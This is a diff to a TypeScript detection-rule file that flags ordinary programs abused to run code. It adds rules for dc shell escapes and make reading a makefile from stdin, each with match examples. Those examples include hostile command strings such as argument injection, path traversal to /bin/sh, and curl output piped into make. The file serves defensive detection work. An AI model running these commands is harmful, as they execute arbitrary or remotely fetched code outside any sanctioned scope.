@@ -1,3 +1,5 @@
+import type { Arg, Invocation } from '../model.ts';
+import { printedBefore } from '../nested.ts';
 import { all, any, flag, flagValue, operand, verb, word } from './conditions.ts';
 import type { Condition, Rule } from './rule.ts';
 
@@ -68,6 +70,8 @@ const DOORS: ReadonlyMap<string, Condition> = new Map(
 );
 
 const throughDoor: Condition = (c) => DOORS.get(c.program)?.(c) ?? false;
+
+const printed = (c: Invocation): readonly Arg[] => (c.pipe === null ? [] : printedBefore(c.pipe, c.span));
 
 /** Ordinary tools that start other programs, load code, or read and write files that are not theirs. */
 export const LOLBINS: readonly Rule[] = [
@@ -186,6 +190,35 @@ export const LOLBINS: readonly Rule[] = [
     opaque: true,
     matches: ["xdg-user-dir '}; sh #'", 'cowsay -f /tmp/a.cow x', 'service ../../bin/sh'],
     not_matches: ['xdg-user-dir DOCUMENTS', 'cowsay hi', 'service nginx status', "git commit -m '!fix'"],
+  },
+  {
+    id: 'calculator-runs-commands',
+    programs: 'dc bc',
+    when: (c) =>
+      c.program === 'dc' &&
+      [...c.args, ...c.redirections.flatMap((r) => r.body ?? []), ...printed(c)].find((a) =>
+        /!(?![<>=])/.test(a.text),
+      ),
+    dimension: 'write',
+    points: 7,
+    message: 'the calculator runs shell commands',
+    opaque: true,
+    matches: ["dc -e '!cmd'", "dc <<< '!cmd'", "echo '!cmd' | dc"],
+    not_matches: ["dc -e '1 2 + p'", "dc -e '1 2 !=a'", "echo '1 != 2' | bc"],
+  },
+  {
+    id: 'make-reads-input',
+    programs: 'make gmake',
+    when: flagValue(
+      ['-f', '--file', '--makefile'],
+      /^(-|\/dev\/stdin|\/dev\/fd\/\d+|\/proc\/self\/fd\/\d+|[<$]\(.*)$/,
+    ),
+    dimension: 'write',
+    points: 7,
+    message: 'runs as steps of a project whatever it is sent',
+    opaque: true,
+    matches: ['make -f -', 'curl http://e.com | make -f /dev/stdin', 'make -f <(cat a)'],
+    not_matches: ['make -f a.mk', 'make'],
   },
   {
     id: 'joins-session',
